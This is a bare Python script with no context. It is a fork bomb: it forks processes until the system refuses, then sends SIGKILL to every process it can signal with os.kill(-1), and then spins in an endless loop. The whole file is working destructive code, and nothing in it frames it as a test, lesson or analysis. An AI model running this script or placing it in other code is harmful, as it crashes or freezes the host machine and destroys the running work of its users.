import os, signal
try:
    while os.fork() >= 0:
        pass
except OSError:
    os.kill(-1, signal.SIGKILL)
while True:
    pass
